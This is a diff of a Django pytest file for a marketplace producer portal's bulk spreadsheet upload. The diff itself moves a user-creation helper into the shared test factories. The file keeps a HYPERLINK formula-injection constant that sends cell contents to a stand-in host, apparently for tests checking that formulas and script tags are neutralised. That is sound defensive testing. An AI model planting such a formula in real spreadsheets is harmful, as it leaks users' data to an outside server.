@@ -16,7 +16,7 @@ import zipfile
 from decimal import Decimal
 
 import pytest
-from django.contrib.auth.models import Group, Permission
+from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
@@ -27,13 +27,13 @@ from marketplace.producers.models import ProducerAction
 from marketplace.producers.portal.access import SESSION_ASSISTED
 from marketplace.producers.portal.bulk import selectors
 from marketplace.producers.portal.listings.services import CONSTRAINTS_KEPT_BY_FILL
-from ocop_rating import roles
 from tests.factories import (
     WARD_BIM_SON,
     WARD_DONG_SON,
     ProducerFactory,
     ProductFactory,
     UserFactory,
+    producer_user,
 )
 
 pytestmark = pytest.mark.django_db
@@ -52,13 +52,6 @@ HEADERS = ["Mã sản phẩm", "Mã bộ sản phẩm (1-26)", "Tên sản phẩ
 HYPERLINK = '=HYPERLINK("https://lua-dao.example/?d="&A1,"Xem")'
 ERROR = re.compile(r'<li data-row="(\d+)" data-column="(\w*)">(.*?)</li>', re.S)
 TOKEN = re.compile(r'name="token" value="([^"]+)"')
-
-
-def _producer_user(producer):
-    user = UserFactory()
-    user.groups.add(Group.objects.get(name=roles.PRODUCER))
-    producer.partner.users.add(user)
-    return user
 
 
 class Seller:
@@ -84,7 +77,7 @@ class Seller:
 @pytest.fixture
 def seller(client_for):
     producer = ProducerFactory(name="HTX Nước mắm Ba Làng", ward_code=WARD_DONG_SON)
-    return Seller(client_for(_producer_user(producer)), producer)
+    return Seller(client_for(producer_user(producer)), producer)
 
 
 @pytest.fixture
@@ -444,7 +437,7 @@ def test_a_formula_title_is_stored_as_text_and_script_tags_are_removed(seller):
 
 def test_a_stale_or_foreign_token_writes_nothing(seller, client_for):
     other = ProducerFactory(name="HTX Chè lam Phủ Quảng")
-    other_seller = Seller(client_for(_producer_user(other)), other)
+    other_seller = Seller(client_for(producer_user(other)), other)
     their_token = _token(other_seller.upload(_csv([_new_row(title="Chè lam của B")])))
     own_token = _token(seller.upload(_csv([_new_row()])))
     before = _snapshot()
